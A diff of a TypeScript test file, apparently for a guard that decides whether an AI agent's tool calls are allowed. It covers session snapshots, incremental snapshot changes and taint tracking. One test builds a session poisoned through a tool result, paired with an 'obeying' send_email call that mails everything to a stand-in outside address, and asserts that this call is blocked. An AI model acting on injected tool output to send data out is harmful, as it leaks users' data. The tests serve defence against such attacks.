@@ -4,7 +4,7 @@ import { packPolicy } from '../pack-files.ts'
 import { decide } from './decide.ts'
 import type { Event, ToolCall } from './event/event.ts'
 import { createSession, observe, type Session, sessionDigest } from './session.ts'
-import { lostSession, type ReadSnapshot, restoreSession, type SessionSnapshot, sessionSnapshot } from './session-snapshot.ts'
+import { changedState, lostSession, restoreSession, sessionChange, type SessionSnapshot, sessionSnapshot } from './session-snapshot.ts'
 
 const policy = packPolicy('balanced')
 const principal = { tenant: 't', host: 'h', user: 'u', app: { name: 'app' }, session: 's', chain: [] }
@@ -14,8 +14,8 @@ function decisionOf(session: Session, call: ToolCall): unknown {
 }
 
 /** As it comes back from a file. */
-function through({ state, texts }: SessionSnapshot): ReadSnapshot {
-  return JSON.parse(`{"state":${state},"texts":${JSON.stringify(texts)}}`) as ReadSnapshot
+function through(snapshot: SessionSnapshot): SessionSnapshot {
+  return JSON.parse(JSON.stringify(snapshot)) as SessionSnapshot
 }
 
 const sentence = fc.constantFrom(
@@ -76,8 +76,8 @@ describe('a session that was written down and read again', () => {
     fc.assert(
       fc.property(fc.array(event, { maxLength: 10 }), call, (events, next) => {
         let session = createSession()
-        const texts: ReadSnapshot['texts'][number][] = []
-        let state: ReadSnapshot['state'] = {}
+        const texts: SessionSnapshot['texts'][number][] = []
+        let state: SessionSnapshot['state'] = {}
         for (const one of events) {
           session = observe(session, one)
           const snapshot = through(sessionSnapshot(session, texts.length))
@@ -90,6 +90,38 @@ describe('a session that was written down and read again', () => {
     )
   })
 
+  it('may be written change by change', () => {
+    fc.assert(
+      fc.property(fc.array(fc.array(event, { maxLength: 5 }), { maxLength: 5 }), (steps) => {
+        let session = createSession()
+        let kept = through(sessionSnapshot(session))
+        for (const events of steps) {
+          const next = events.reduce(observe, session)
+          const { change, texts } = JSON.parse(JSON.stringify(sessionChange(session, next))) as ReturnType<typeof sessionChange>
+          kept = { state: changedState(kept.state, change), texts: [...kept.texts, ...texts] }
+          session = next
+        }
+        expect(kept).toEqual(through(sessionSnapshot(session)))
+      }),
+      { numRuns: 80 },
+    )
+  })
+
+  it('is written in little, however long it has gone on', () => {
+    const read = (session: Session, index: number) =>
+      observe(observe(session, { type: 'tool.call', callId: `c${index}`, tool: 'read', args: { path: `/w/${index}` } }), {
+        type: 'context',
+        channel: 'tool_result',
+        callId: `c${index}`,
+        text: `What stands in ${index}.`,
+      })
+    let session = createSession()
+    for (let index = 0; index < 400; index += 1) session = read(session, index)
+    expect(JSON.stringify(sessionChange(session, read(session, 400))).length).toBeLessThan(2000)
+    const kept = changedState(through(sessionSnapshot(session)).state, sessionChange(session, read(session, 400)).change)
+    expect(kept).toEqual(through(sessionSnapshot(read(session, 400))).state)
+  })
+
   const poisoned = observe(observe(createSession(), { type: 'prompt', text: 'What is new?' }), {
     type: 'context',
     channel: 'tool_result',
@@ -97,16 +129,14 @@ describe('a session that was written down and read again', () => {
   })
   const obeying: ToolCall = { type: 'tool.call', callId: 'n', tool: 'send_email', args: { to: 'eve@elsewhere.example', body: 'all' } }
 
-  const read = through(sessionSnapshot(poisoned))
-
-  it.each<[string, ReadSnapshot]>([
-    ['whose texts are lost', { ...read, texts: [] }],
-    ['of which a text is lost', { ...read, texts: read.texts.slice(0, 1) }],
-    ['of another layout', { state: { ...read.state, layout: 0 }, texts: read.texts }],
-    ['that is damaged', { state: { ...read.state, pins: 7 }, texts: [] }],
+  it.each<[string, SessionSnapshot]>([
+    ['whose texts are lost', { ...sessionSnapshot(poisoned), texts: [] }],
+    ['of which a text is lost', { ...sessionSnapshot(poisoned), texts: sessionSnapshot(poisoned).texts.slice(0, 1) }],
+    ['of another layout', { state: { ...sessionSnapshot(poisoned).state, layout: 0 }, texts: sessionSnapshot(poisoned).texts }],
+    ['that is damaged', { state: { ...sessionSnapshot(poisoned).state, pins: 7 }, texts: [] }],
     ['that is nothing', { state: {}, texts: [] }],
   ])('is stricter, never laxer: one %s', (_, snapshot) => {
-    const restored = restoreSession(snapshot)
+    const restored = restoreSession(through(snapshot))
     expect(restored.tainted).toBe(true)
     expect((decisionOf(restored, obeying) as { verdict: string }).verdict).not.toBe('allow')
   })
@@ -128,7 +158,7 @@ describe('a session that was written down and read again', () => {
     for (let index = 0; index < 40; index += 1)
       session = observe(session, { type: 'context', channel: 'tool_result', text: `${index} ${'lorem ipsum dolor '.repeat(12_000)}` })
     expect(JSON.stringify(sessionSnapshot(session)).length).toBeLessThan(4_000_000)
-    expect(restoreSession(through(sessionSnapshot(session))).tainted).toBe(true)
+    expect(restoreSession(sessionSnapshot(session)).tainted).toBe(true)
   })
 
   it('that is lost is not trusted', () => expect(lostSession()).toMatchObject({ tainted: true, holdsSecrets: true }))
